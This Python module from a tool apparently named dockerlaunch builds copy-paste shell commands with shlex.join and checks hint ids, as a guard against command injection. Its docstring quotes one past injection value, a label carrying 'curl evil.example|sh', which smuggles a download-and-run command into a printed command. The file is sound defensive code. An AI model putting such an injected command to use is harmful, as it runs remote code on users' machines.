"""Every command dockerlaunch prints for a user to paste (a `fix:`, a pointer to another command, advice such as
`ssh-keygen -R ...`) is built by `command`: its words joined once with shlex.join, so no value in it (an image label
read on a host, a config value, a host name) can end the command early or start another one. A stack label
`x; curl evil.example|sh; :` once printed `dockerlaunch build --stack x; curl evil.example|sh; : ...`.

Each printing site names itself with `hint=`, a literal id. The tests declare the ids whose printed command they run
as printed (`@pytest.mark.hint(ID)`), or say why one cannot run here (tests/unit/test_hints.py NOT_RUNNABLE); that
test fails for a site in neither, and for any other string in the package that spells a dockerlaunch command.

The bottom layer (errors imports it): gpu/, images/ and job/ all do too; job/invocation.py calls it for the
commands that repeat the user's own --config, --hosts and --name."""

from __future__ import annotations

import re
import shlex

_ID = re.compile(r"[a-z][a-z0-9-]*(\.[a-z0-9-]+)+\Z")  # `module.what`: push.thin, needs.rebuild-archs


def command(*argv: str, hint: str) -> str:
    """`argv` as one POSIX shell command (each word quoted where it needs to be). Placeholders the user fills in
    are upper-case words (IMAGE, NAME): pasted as they are, they name nothing and the command refuses them."""
    if not _ID.match(hint):
        raise ValueError(f"hint id {hint!r}: lower-case `module.what`")
    if not argv or not all(isinstance(word, str) for word in argv):
        raise TypeError(f"hint {hint}: words must be strings, got {argv!r}")
    return shlex.join(argv)


def dockerlaunch(*words: str, hint: str) -> str:
    """`dockerlaunch WORDS`: a pointer that needs none of the user's own flags (`stacks list`, `schema`)."""
    return command("dockerlaunch", *words, hint=hint)
